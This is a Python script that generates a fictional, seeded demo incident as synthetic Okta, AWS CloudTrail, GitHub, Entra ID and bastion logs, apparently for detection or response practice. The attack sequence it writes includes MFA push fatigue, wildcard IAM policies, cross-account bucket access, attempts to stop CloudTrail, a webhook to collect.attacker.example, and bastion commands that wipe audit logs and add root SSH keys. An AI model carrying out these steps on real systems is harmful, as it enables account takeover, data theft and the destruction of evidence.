#!/usr/bin/env python3
"""Writes the demo incident: python3 demo/generate.py. Seeded: the same files every time.

Only documentation names and addresses are used (example domains, RFC 5737 networks, account ids
of AWS's own documentation); nobody and nothing here exists.
"""

import json
import pathlib
import random
import uuid
from datetime import datetime, timedelta, timezone

HERE = pathlib.Path(__file__).parent
R = random.Random(20260311)
DAY = datetime(2026, 3, 10, tzinfo=timezone.utc)
EVENTS = []  # (time, source, text)

ACCOUNT, ORG = "111122223333", "meridian"
OFFICE = ["203.0.113.10", "203.0.113.11", "203.0.113.24"]
ATTACKER = "198.51.100.77"
IRELAND = {"city": "Dublin", "state": "Leinster", "country": "Ireland", "postalCode": "D02",
           "geolocation": {"lat": 53.3498, "lon": -6.2603}}
ICELAND = {"city": "Reykjavik", "state": "Capital Region", "country": "Iceland", "postalCode": "101",
           "geolocation": {"lat": 64.1466, "lon": -21.9426}}
MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/144.0.0.0 Safari/537.36")
LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0"


def hexes(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def caps(n):
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(n))


def alnum(n):
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def uid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def at(day, clock):
    parts = [int(part) for part in clock.split(":")] + [0]
    return DAY + timedelta(days=day, hours=parts[0], minutes=parts[1], seconds=parts[2],
                           milliseconds=R.randrange(1000))


def z(time):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ")


def zms(time):
    return time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{time.microsecond // 1000:03d}Z"


def put(time, source, value):
    text = value if isinstance(value, str) else json.dumps(value, separators=(",", ":"), ensure_ascii=False)
    EVENTS.append((time, source, text))


class Person:
    def __init__(self, given, family, team):
        self.name = f"{given.capitalize()} {family.capitalize()}"
        self.mail = f"{given}.{family}@meridian.example"
        self.login = f"{given[0]}{family}"
        self.team = team
        self.okta = "00u" + alnum(17)
        self.entra = uid()
        self.principal = caps(17)
        self.github = R.randrange(10_000_000, 99_999_999)
        self.address = R.choice(OFFICE)
        self.key = "SHA256:" + alnum(43)


MARIA = Person("maria", "lopez", "platform")
JAMES = Person("james", "okafor", "security")
PEOPLE = [MARIA, JAMES, Person("wei", "chen", "payments"), Person("anna", "kovacs", "data"),
          Person("david", "miller", "payments"), Person("priya", "nair", "platform"),
          Person("tomas", "novak", "mobile"), Person("aisha", "diallo", "people"),
          Person("lucas", "silva", "data"), Person("nora", "larsen", "finance")]
ENGINEERS = [p for p in PEOPLE if p.team not in ("people", "finance")]


# Okta System Log

APPS = {"AWS IAM Identity Center": "0oa" + alnum(17), "GitHub Enterprise Cloud": "0oa" + alnum(17),
        "Okta Dashboard": "0oa" + alnum(17), "Payroll": "0oa" + alnum(17), "Wiki": "0oa" + alnum(17)}


def okta(time, person, kind, message, targets=(), result="SUCCESS", reason=None, away=False, session=None,
         severity="INFO", legacy=None, debug=None):
    place, address = (ICELAND, ATTACKER) if away else (IRELAND, person.address)
    request = hexes(32)
    put(time, "okta-corp", {
        "actor": {"id": person.okta, "type": "User", "alternateId": person.mail, "displayName": person.name,
                  "detailEntry": None},
        "client": {"userAgent": {"rawUserAgent": LINUX if away else MAC, "os": "Linux" if away else "Mac OS X",
                                 "browser": "FIREFOX" if away else "CHROME"},
                   "zone": "null", "device": "Computer", "id": None, "ipAddress": address,
                   "geographicalContext": place},
        "device": None,
        "authenticationContext": {"authenticationProvider": None, "credentialProvider": None,
                                  "authenticationStep": 0, "rootSessionId": session,
                                  "externalSessionId": session or "unknown"},
        "displayMessage": message,
        "eventType": kind,
        "outcome": {"result": result, "reason": reason},
        "published": zms(time),
        "securityContext": {"asNumber": 64511 if away else 64500,
                            "asOrg": "example hosting" if away else "meridian office",
                            "isp": "example hosting" if away else "example telecom",
                            "domain": "hosting.example" if away else "telecom.example", "isProxy": away},
        "severity": severity,
        "debugContext": {"debugData": {"requestId": request, "dtHash": hexes(64),
                                       "requestUri": "/idp/idx/challenge/answer", "threatSuspected": "false",
                                       **(debug or {})}},
        "legacyEventType": legacy,
        "transaction": {"type": "WEB", "id": request, "detail": {}},
        "uuid": uid(),
        "version": "0",
        "request": {"ipChain": [{"ip": address, "geographicalContext": place, "version": "V4", "source": None}]},
        "target": list(targets) or None,
    })


def app(name):
    return {"id": APPS[name], "type": "AppInstance", "alternateId": name, "displayName": name}


def user(person):
    return {"id": person.okta, "type": "User", "alternateId": person.mail, "displayName": person.name}


QUIET = ('{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE, New State=NEGATIVE, '
         'New Country=NEGATIVE, Velocity=NEGATIVE, New City=NEGATIVE}')
LOUD = ('{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New State=POSITIVE, '
        'New Country=POSITIVE, Velocity=POSITIVE, New City=POSITIVE}')


def sign_in(time, person):
    session = "102" + alnum(22)
    okta(time, person, "user.authentication.auth_via_mfa", "Authentication of user via MFA", [user(person)],
         session=session, debug={"factor": "OKTA_VERIFY_PUSH"})
    okta(time + timedelta(seconds=2), person, "user.session.start", "User login to Okta", [app("Okta Dashboard")],
         session=session, legacy="core.user_auth.login_success", debug={"behaviors": QUIET})
    return session


# AWS CloudTrail

SSO_ROLE = "AWSReservedSSO_PlatformAdmin_4f1d2c3b5a697887"
SSO_ID = "AROA" + caps(17)
REQUEST_REGION = "eu-west-1"


def sso(person, key, since, role=SSO_ROLE, role_id=SSO_ID):
    path = f"aws-reserved/sso.amazonaws.com/{REQUEST_REGION}/" if role.startswith("AWSReserved") else ""
    return {"type": "AssumedRole", "principalId": f"{role_id}:{person.mail}",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{person.mail}", "accountId": ACCOUNT,
            "accessKeyId": key,
            "sessionContext": {
                "sessionIssuer": {"type": "Role", "principalId": role_id,
                                  "arn": f"arn:aws:iam::{ACCOUNT}:role/{path}{role}",
                                  "accountId": ACCOUNT, "userName": role},
                "attributes": {"creationDate": z(since), "mfaAuthenticated": "false"}}}


def workload(role, name, since):
    role_id = "AROA" + caps(17)
    return {"type": "AssumedRole", "principalId": f"{role_id}:{name}",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{name}", "accountId": ACCOUNT,
            "accessKeyId": "ASIAEXAMPLE" + caps(9),
            "sessionContext": {
                "sessionIssuer": {"type": "Role", "principalId": role_id, "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}",
                                  "accountId": ACCOUNT, "userName": role},
                "attributes": {"creationDate": z(since), "mfaAuthenticated": "false"}}}


def aws(time, who, service, name, request, response=None, address=None, agent=MAC, read=False, error=None, extra=None):
    source = f"{service}.amazonaws.com"
    event = {"eventVersion": "1.11", "userIdentity": who, "eventTime": z(time), "eventSource": source,
             "eventName": name,
             "awsRegion": "us-east-1" if service in ("iam", "signin") else REQUEST_REGION,
             "sourceIPAddress": address, "userAgent": agent}
    if error:
        event["errorCode"], event["errorMessage"] = error
    event |= {"requestParameters": request, "responseElements": None if error else response}
    event |= extra or {}
    event |= {"requestID": caps(16) if service == "s3" else uid(), "eventID": uid(), "readOnly": read,
              "eventType": "AwsConsoleSignIn" if service == "signin" else "AwsApiCall", "managementEvent": True,
              "recipientAccountId": ACCOUNT, "eventCategory": "Management",
              "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                             "clientProvidedHostHeader": f"{service}.{REQUEST_REGION}.amazonaws.com"}}
    put(time, "aws-prod", event)


# GitHub organisation audit log

def github(time, person, action, address=None, country="IE", **members):
    ms = int(time.timestamp() * 1000)
    put(time, "github-corp", {
        "@timestamp": ms, "_document_id": alnum(22), "action": action, "actor": person.login,
        "actor_id": person.github, "actor_ip": address or person.address, "actor_is_bot": False,
        "actor_location": {"country_code": country}, "business": ORG, "business_id": 40417, "created_at": ms,
        "org": ORG, "org_id": 9014021, "user_agent": MAC if country == "IE" else LINUX,
        "request_id": ":".join(hexes(4).upper() for _ in range(5)), **members})


# Linux bastion (RFC 3164 lines as rsyslog writes them)

def bastion(time, program, text):
    put(time, "bastion-1", f"{time.strftime('%b %e %H:%M:%S')} bastion-1 {program}: {text}")


def ssh(time, person, minutes, commands=(), address=None):
    pid, port = R.randrange(1200, 60000), R.randrange(40000, 65000)
    address = address or person.address
    bastion(time, f"sshd[{pid}]", f"Accepted publickey for {person.login} from {address} port {port} ssh2: ED25519 {person.key}")
    bastion(time, f"sshd[{pid}]",
            f"pam_unix(sshd:session): session opened for user {person.login}(uid={1000 + PEOPLE.index(person)}) by (uid=0)")
    for offset, command in commands:
        now = time + timedelta(seconds=offset)
        bastion(now, "sudo", f"{person.login:>8} : TTY=pts/0 ; PWD=/home/{person.login} ; USER=root ; COMMAND={command}")
    bastion(time + timedelta(minutes=minutes), f"sshd[{pid}]", f"pam_unix(sshd:session): session closed for user {person.login}")


# Microsoft Entra ID, as its diagnostic settings export it

TENANT = uid()


def entra_sign_in(time, person, application, address=None, country="IE", city="Dublin", error=0):
    address = address or person.address
    put(time, "entra-id", {
        "time": zms(time), "resourceId": f"/tenants/{TENANT}/providers/Microsoft.aadiam",
        "operationName": "Sign-in activity", "operationVersion": "1.0", "category": "SignInLogs",
        "tenantId": TENANT, "resultType": str(error), "resultSignature": "None", "durationMs": 0,
        "callerIpAddress": address, "correlationId": uid(), "identity": person.name, "Level": 4, "location": country,
        "properties": {
            "id": uid(), "createdDateTime": zms(time), "userDisplayName": person.name,
            "userPrincipalName": person.mail, "userId": person.entra, "appId": uid(),
            "appDisplayName": application, "ipAddress": address, "status": {"errorCode": error},
            "clientAppUsed": "Browser", "userAgent": MAC if country == "IE" else LINUX,
            "location": {"city": city, "countryOrRegion": country}, "isInteractive": True,
            "conditionalAccessStatus": "success", "authenticationRequirement": "multiFactorAuthentication",
            "riskLevelDuringSignIn": "none" if country == "IE" else "medium", "userType": "Member"}})


def entra_audit(time, person, operation, category, targets, address=None):
    put(time, "entra-id", {
        "time": zms(time), "resourceId": f"/tenants/{TENANT}/providers/Microsoft.aadiam",
        "operationName": operation, "operationVersion": "1.0", "category": "AuditLogs", "tenantId": TENANT,
        "resultSignature": "None", "durationMs": 0, "callerIpAddress": address or person.address,
        "correlationId": uid(), "Level": 4,
        "properties": {
            "id": f"Directory_{hexes(8).upper()}_{R.randrange(10_000_000)}", "category": category,
            "correlationId": uid(), "result": "success", "resultReason": "", "activityDisplayName": operation,
            "activityDateTime": zms(time), "loggedByService": "Core Directory", "operationType": "Update",
            "initiatedBy": {"user": {"id": person.entra, "displayName": person.name,
                                     "userPrincipalName": person.mail, "ipAddress": address or person.address,
                                     "roles": []}},
            "targetResources": targets, "additionalDetails": []}})


def change(name, old, new):
    return {"displayName": name, "oldValue": json.dumps(old), "newValue": json.dumps(new)}


# An ordinary day

def ordinary_day():
    for person in PEOPLE:
        for day, hour in ((0, 8), (1, 8)):
            start = at(day, f"{hour:02d}:{R.randrange(5, 50):02d}:{R.randrange(60):02d}")
            # Maria's account is suspended by the second morning; the story ends soon after nine.
            if day == 1 and person is MARIA:
                continue
            session = sign_in(start, person)
            for name in R.sample(sorted(APPS), 1):
                if name != "Okta Dashboard":
                    start += timedelta(minutes=R.randrange(1, 9 if day else 40))
                    okta(start, person, "user.authentication.sso", "User single sign on to app",
                         [app(name), user(person)], session=session)
        entra_sign_in(at(0, f"09:{R.randrange(60):02d}:{R.randrange(60):02d}"), person,
                      R.choice(["Office 365 Exchange Online", "Microsoft Teams", "SharePoint Online"]))
    ordinary_aws()
    ordinary_github()
    ordinary_bastion()
    okta(at(0, "11:20:31"), PEOPLE[7], "application.user_membership.add", "Add user to application membership",
         [app("Payroll"), user(PEOPLE[9])])
    okta(at(0, "14:02:10"), PEOPLE[4], "user.account.update_password", "User update password for Okta", [user(PEOPLE[4])])
    entra_sign_in(at(0, "13:31:07"), PEOPLE[8], "SharePoint Online", error=50126)
    entra_sign_in(at(0, "13:31:40"), PEOPLE[8], "SharePoint Online")
    entra_audit(at(0, "15:44:12"), PEOPLE[7], "Update user", "UserManagement",
                [{"id": PEOPLE[6].entra, "type": "User", "displayName": PEOPLE[6].name,
                  "userPrincipalName": PEOPLE[6].mail,
                  "modifiedProperties": [change("JobTitle", ["Engineer"], ["Senior Engineer"])]}])
    # A typo at noon, so that not every denied push is the attack.
    okta(at(0, "12:07:55"), PEOPLE[5], "user.session.start", "User login to Okta", [app("Okta Dashboard")],
         result="FAILURE", reason="INVALID_CREDENTIALS", legacy="core.user_auth.login_failed", severity="WARN")


def ordinary_aws():
    calls = [("ec2", "DescribeInstances", {"instancesSet": {}, "filterSet": {}}),
             ("ec2", "DescribeSecurityGroups", {"securityGroupSet": {}, "filterSet": {}}),
             ("s3", "ListBuckets", {"Host": f"s3.{REQUEST_REGION}.amazonaws.com"}),
             ("iam", "GetRole", {"roleName": "payments-api"}),
             ("rds", "DescribeDBInstances", {"dBInstanceIdentifier": "ledger-1"}),
             ("logs", "DescribeLogGroups", {"logGroupNamePrefix": "/aws/lambda/payments"}),
             ("lambda", "GetFunction20150331v2", {"functionName": "payments-export"})]
    for person in ENGINEERS[:4]:
        key, since = "ASIAEXAMPLE" + caps(9), at(0, f"09:{R.randrange(10, 30):02d}")
        for _ in range(7):
            service, name, request = R.choice(calls)
            when = since + timedelta(minutes=R.randrange(1, 460), seconds=R.randrange(60))
            aws(when, sso(person, key, since, "AWSReservedSSO_ReadOnly_8c0d1e2f3a4b5c6d", "AROA" + caps(17)), service,
                name, request, address=person.address, read=True)
    # Workloads call all day and night: their silence is what shows that the trail was stopped.
    for minutes in range(0, 27 * 60, 23):
        when = at(0, "06:00") + timedelta(minutes=minutes, seconds=R.randrange(300))
        if at(1, "02:37:19") < when < at(1, "06:51:30"):
            continue
        role, service, name, request = R.choice([
            ("payments-api", "secretsmanager", "GetSecretValue", {"secretId": "prod/payments/db"}),
            ("ledger-worker", "kms", "Decrypt", {"encryptionAlgorithm": "SYMMETRIC_DEFAULT",
                                                  "encryptionContext": {"service": "ledger"}}),
            ("ci-artifact-reader", "ecr", "BatchGetImage", {"registryId": ACCOUNT, "repositoryName": "payments-api"}),
            ("backup-runner", "rds", "DescribeDBSnapshots", {"dBInstanceIdentifier": "ledger-1"})])
        host = "i-0" + hexes(16)
        aws(when, workload(role, host, when - timedelta(minutes=R.randrange(50))), service, name, request,
            address=f"10.20.{R.randrange(8)}.{R.randrange(2, 250)}", read=True,
            agent="aws-sdk-go-v2/1.41.1 os/linux lang/go#1.25.5 md/GOARCH#arm64")


def ordinary_github():
    repos = ["payments-api", "ledger", "mobile-app", "infrastructure", "data-jobs"]
    for _ in range(30):
        person, repo = R.choice(ENGINEERS), R.choice(repos)
        when = at(0, f"{R.randrange(9, 18):02d}:{R.randrange(60):02d}:{R.randrange(60):02d}")
        action = R.choice(["git.push", "git.clone", "pull_request.merge", "pull_request.create",
                           "workflows.completed_workflow_run"])
        members = {"repo": f"{ORG}/{repo}", "visibility": "private", "operation_type": "modify"}
        if action.startswith("workflows"):
            members |= {"conclusion": R.choice(["success", "success", "failure"]), "name": "ci",
                        "head_sha": hexes(40), "workflow_run_id": R.randrange(10**10)}
        elif action.startswith("pull_request"):
            members |= {"pull_request_id": R.randrange(10**9), "pull_request_title": "Update dependencies"}
        else:
            members |= {"transport_protocol_name": "ssh", "transport_protocol": 2}
        github(when, person, action, **members)
    github(at(0, "10:15:02"), JAMES, "team.add_member", user=PEOPLE[6].login, team=f"{ORG}/mobile", operation_type="modify")


def ordinary_bastion():
    for hour in (9, 10, 11, 13, 14, 15, 16):
        person = R.choice([MARIA, PEOPLE[5], PEOPLE[3]])
        commands = [(40, R.choice(["/usr/bin/systemctl status payments-tunnel", "/usr/bin/apt-get update",
                                   "/usr/bin/journalctl -u payments-tunnel -n 50"]))]
        ssh(at(0, f"{hour:02d}:{R.randrange(60):02d}:{R.randrange(60):02d}"), person, R.randrange(4, 25), commands)
    for _ in range(12):
        when = at(R.choice([0, 0, 1]), f"{R.randrange(1, 8):02d}:{R.randrange(60):02d}:{R.randrange(60):02d}")
        name, address = R.choice(["admin", "ubuntu", "oracle", "test"]), f"192.0.2.{R.randrange(2, 250)}"
        bastion(when, f"sshd[{R.randrange(1200, 60000)}]", f"Invalid user {name} from {address} port {R.randrange(30000, 65000)}")
    for hour in range(0, 33, 4):
        when = at(0, "00:17:01") + timedelta(hours=hour)
        bastion(when, f"CRON[{R.randrange(1200, 60000)}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")


# The night

def push_fatigue():
    session = "102" + alnum(22)
    okta(at(1, "01:56:12"), MARIA, "user.authentication.auth_via_mfa", "Authentication of user via MFA", [user(MARIA)],
         result="CHALLENGE", reason="FACTOR_CHALLENGE", away=True, debug={"factor": "PASSWORD_AS_FACTOR"})
    for clock in ["01:57:03", "01:58:20", "01:59:41", "02:02:15", "02:04:02", "02:07:30", "02:09:48", "02:12:31"]:
        sent = at(1, clock)
        okta(sent, MARIA, "system.push.send_factor_verify_push", "Send push notification to verify MFA factor",
             [user(MARIA)], away=True)
        if clock != "02:12:31":
            okta(sent + timedelta(seconds=R.randrange(8, 25)), MARIA, "user.mfa.okta_verify.deny_push",
                 "User rejected Okta push verify", [user(MARIA)], result="FAILURE",
                 reason="INVALID_CREDENTIALS", away=True, severity="WARN")
    okta(at(1, "02:12:52"), MARIA, "user.authentication.auth_via_mfa", "Authentication of user via MFA", [user(MARIA)],
         away=True, session=session, debug={"factor": "OKTA_VERIFY_PUSH"})
    okta(at(1, "02:13:04"), MARIA, "user.session.start", "User login to Okta", [app("Okta Dashboard")], away=True,
         session=session, legacy="core.user_auth.login_success", debug={"behaviors": LOUD, "risk": "{level=HIGH}"})
    okta(at(1, "02:14:21"), MARIA, "user.mfa.factor.activate", "Activate factor for user", [user(MARIA)], away=True,
         session=session, debug={"factor": "GOOGLE_AUTHENTICATOR"})
    okta(at(1, "02:15:36"), MARIA, "user.authentication.sso", "User single sign on to app",
         [app("AWS IAM Identity Center"), user(MARIA)], away=True, session=session)
    return session


def policies_in_aws():
    since, key = at(1, "02:16:10"), "ASIAEXAMPLE" + caps(9)
    maria = sso(MARIA, key, since)

    def call(clock, service, name, request, response=None, read=False, error=None, who=maria, extra=None):
        aws(at(1, clock), who, service, name, request, response, ATTACKER, LINUX, read, error, extra)

    call("02:16:10", "signin", "ConsoleLogin", None, {"ConsoleLogin": "Success"},
         extra={"additionalEventData": {"MobileVersion": "No", "MFAUsed": "No"}})
    for clock, service, name in [("02:16:48", "sts", "GetCallerIdentity"), ("02:17:05", "iam", "ListUsers"),
                                 ("02:17:09", "iam", "ListRoles"), ("02:17:40", "iam", "GetAccountAuthorizationDetails"),
                                 ("02:18:02", "s3", "ListBuckets"), ("02:18:15", "cloudtrail", "DescribeTrails")]:
        call(clock, service, name, None, read=True)
    call("02:19:27", "iam", "AttachRolePolicy",
         {"roleName": "ci-artifact-reader", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    call("02:20:44", "iam", "CreateAccessKey", {"userName": "svc-backup"},
         {"accessKey": {"userName": "svc-backup", "accessKeyId": "AKIAEXAMPLE" + caps(9), "status": "Active",
                        "createDate": z(at(1, "02:20:44"))}})
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    for clock, role in [("02:21:30", "payments-api"), ("02:22:06", "ledger-worker"), ("02:22:41", "backup-runner"),
                        ("02:23:15", "data-export"), ("02:24:02", "mobile-gateway"), ("02:24:39", "ci-deploy")]:
        call(clock, "iam", "PutRolePolicy", {"roleName": role, "policyName": "maintenance",
                                              "policyDocument": json.dumps(everything)})
    trust = {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": [f"arn:aws:iam::{ACCOUNT}:root", "arn:aws:iam::444455556666:root"]},
         "Action": "sts:AssumeRole"}]}
    call("02:26:03", "iam", "UpdateAssumeRolePolicy", {"roleName": "ci-artifact-reader", "policyDocument": json.dumps(trust)})
    for clock, bucket in [("02:27:18", "meridian-ledger-exports"), ("02:28:01", "meridian-payments-archive"),
                          ("02:28:44", "meridian-customer-documents"), ("02:29:30", "meridian-backups"),
                          ("02:30:12", "meridian-data-lake"), ("02:31:05", "meridian-audit-reports"),
                          ("02:31:52", "meridian-mobile-uploads")]:
        host = f"{bucket}.s3.{REQUEST_REGION}.amazonaws.com"
        policy = {"Version": "2012-10-17", "Statement": [
            {"Sid": "partner", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::444455556666:root"},
             "Action": ["s3:GetObject", "s3:ListBucket"],
             "Resource": [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]}]}
        call(clock, "s3", "PutBucketPolicy", {"bucketPolicy": policy, "bucketName": bucket, "Host": host, "policy": ""},
             extra={"resources": [{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]})
    for clock, bucket in [("02:32:20", "meridian-customer-documents"), ("02:32:47", "meridian-backups")]:
        call(clock, "s3", "DeleteBucketPublicAccessBlock", {"bucketName": bucket, "publicAccessBlock": ""})
    trail = f"arn:aws:cloudtrail:{REQUEST_REGION}:{ACCOUNT}:trail/org-audit"
    refused = ("AccessDenied", f"User: {maria['arn']} is not authorized to perform: cloudtrail:StopLogging on resource: "
               f"{trail} with an explicit deny in a permissions boundary")
    call("02:34:11", "cloudtrail", "StopLogging", {"name": trail}, error=refused)
    call("02:34:40", "cloudtrail", "StopLogging", {"name": trail}, error=refused)
    call("02:35:58", "sts", "AssumeRole",
         {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/ci-artifact-reader", "roleSessionName": "maria.lopez@meridian.example"},
         {"credentials": {"accessKeyId": "ASIAEXAMPLE" + caps(9), "expiration": z(at(1, "03:35:58"))},
          "assumedRoleUser": {"arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/ci-artifact-reader/{MARIA.mail}"}})
    reader = sso(MARIA, "ASIAEXAMPLE" + caps(9), at(1, "02:35:58"), "ci-artifact-reader", "AROA" + caps(17))
    call("02:36:31", "cloudtrail", "PutEventSelectors", {"trailName": trail, "eventSelectors": [
        {"readWriteType": "ReadOnly", "includeManagementEvents": False, "dataResources": []}]}, who=reader)
    call("02:37:19", "cloudtrail", "StopLogging", {"name": trail}, who=reader)


def policies_elsewhere(session):
    def hub(clock, action, **members):
        github(at(1, clock), MARIA, action, ATTACKER, "IS", operation_type="modify", **members)

    okta(at(1, "02:39:50"), MARIA, "user.authentication.sso", "User single sign on to app",
         [app("GitHub Enterprise Cloud"), user(MARIA)], away=True, session=session)
    hub("02:41:08", "org.update_member", user="svc-release", permission="admin", old_permission="read")
    hub("02:42:33", "org.update_default_repository_permission", permission="write", old_permission="read")
    hub("02:43:15", "protected_branch.destroy", repo=f"{ORG}/payments-api", name="main")
    hub("02:43:58", "protected_branch.destroy", repo=f"{ORG}/infrastructure", name="main")
    hub("02:44:47", "personal_access_token.access_granted", user="svc-release", repository_selection="all",
        permissions_added=["contents:write", "administration:write"])
    hub("02:45:36", "hook.create", repo=f"{ORG}/infrastructure", events=["push"],
        config={"url": "https://collect.attacker.example/hook", "content_type": "json"})

    def policy(name, kind):
        return {"id": "00p" + alnum(17), "type": kind, "alternateId": "unknown", "displayName": name}

    for clock, kind, message, target in [
            ("02:47:22", "policy.rule.update", "Update policy rule", policy("Admins need a phishing-resistant factor", "PolicyRule")),
            ("02:48:10", "policy.rule.deactivate", "Deactivate policy rule", policy("Block sign-in from new countries", "PolicyRule")),
            ("02:48:55", "policy.lifecycle.update", "Update policy", policy("Privileged sign-on", "PolicyEntity")),
            ("02:49:41", "zone.update", "Update network zone", policy("Trusted offices", "NetworkZone")),
            ("02:50:26", "user.account.privilege.grant", "Grant user privilege", user(PEOPLE[9])),
            ("02:51:03", "system.api_token.create", "Create API token", policy("maintenance", "Token"))]:
        okta(at(1, clock), MARIA, kind, message, [target], away=True, session=session, severity="WARN",
             debug={"privilegeGranted": "Super administrator"} if "privilege" in kind else None)

    entra_sign_in(at(1, "02:52:18"), MARIA, "Azure Portal", ATTACKER, "IS", "Reykjavik")
    entra_audit(at(1, "02:53:40"), MARIA, "Add member to role", "RoleManagement",
                [{"id": PEOPLE[9].entra, "type": "User", "userPrincipalName": PEOPLE[9].mail,
                  "modifiedProperties": [change("Role.DisplayName", None, "Global Administrator")]}], ATTACKER)
    entra_audit(at(1, "02:55:02"), MARIA, "Update conditional access policy", "Policy",
                [{"id": uid(), "type": "Policy", "displayName": "Require MFA for administrators",
                  "modifiedProperties": [change("state", "enabled", "disabled")]}], ATTACKER)
    entra_audit(at(1, "02:56:37"), MARIA, "Add service principal credentials", "ApplicationManagement",
                [{"id": uid(), "type": "ServicePrincipal", "displayName": "backup-sync",
                  "modifiedProperties": [change("KeyDescription", [], ["[KeyType=Password,DisplayName=maintenance]"])]}], ATTACKER)


def traces_on_the_bastion():
    ssh(at(1, "03:02:44"), MARIA, 9, [
        (41, "/usr/bin/systemctl stop auditd"), (78, "/usr/bin/truncate -s 0 /var/log/auth.log"),
        (112, "/usr/bin/journalctl --rotate"), (120, "/usr/bin/journalctl --vacuum-time=1s"),
        (171, "/usr/bin/rm -f /var/log/audit/audit.log /var/log/audit/audit.log.1"),
        (236, "/usr/bin/tee -a /root/.ssh/authorized_keys"), (405, "/usr/bin/rm -f /home/mlopez/.bash_history")], ATTACKER)


def the_morning_after():
    since = at(1, "06:49:20")
    session = sign_in(at(1, "06:44:02"), JAMES)
    okta(at(1, "06:46:18"), JAMES, "user.session.clear", "Clear user session", [user(MARIA)], session=session)
    okta(at(1, "06:46:40"), JAMES, "user.lifecycle.suspend", "Suspend Okta user", [user(MARIA)], session=session)
    okta(at(1, "06:47:31"), JAMES, "policy.rule.activate", "Activate policy rule",
         [{"id": "00p" + alnum(17), "type": "PolicyRule", "alternateId": "unknown",
           "displayName": "Block sign-in from new countries"}], session=session)
    james = sso(JAMES, "ASIAEXAMPLE" + caps(9), since, "AWSReservedSSO_BreakGlass_0a1b2c3d4e5f6071", "AROA" + caps(17))
    trail = f"arn:aws:cloudtrail:{REQUEST_REGION}:{ACCOUNT}:trail/org-audit"
    for clock, service, name, request in [
            ("06:51:30", "cloudtrail", "StartLogging", {"name": trail}),
            ("06:53:02", "iam", "DetachRolePolicy", {"roleName": "ci-artifact-reader",
                                                      "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            ("06:54:11", "iam", "UpdateAccessKey", {"userName": "svc-backup", "status": "Inactive",
                                                     "accessKeyId": "AKIAEXAMPLE" + caps(9)}),
            ("06:55:40", "iam", "DeleteRolePolicy", {"roleName": "payments-api", "policyName": "maintenance"})]:
        aws(at(1, clock), james, service, name, request, address=JAMES.address)
    github(at(1, "06:58:15"), JAMES, "org.update_member", user="svc-release", permission="read", old_permission="admin",
           operation_type="modify")


def main():
    ordinary_day()
    session = push_fatigue()
    policies_in_aws()
    policies_elsewhere(session)
    traces_on_the_bastion()
    the_morning_after()
    EVENTS.sort(key=lambda event: event[0])
    order, files = [], {}
    for _, source, text in EVENTS:
        files.setdefault(source, []).append(text)
        order.append(source)
    for source, lines in files.items():
        name = f"{source}.log" if source == "bastion-1" else f"{source}.ndjson"
        (HERE / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    (HERE / "order.txt").write_text("\n".join(order) + "\n", encoding="utf-8")
    for source, lines in sorted(files.items()):
        print(f"{source:12} {len(lines):4} events")
    print(f"{len(order):17} in all")


if __name__ == "__main__":
    main()
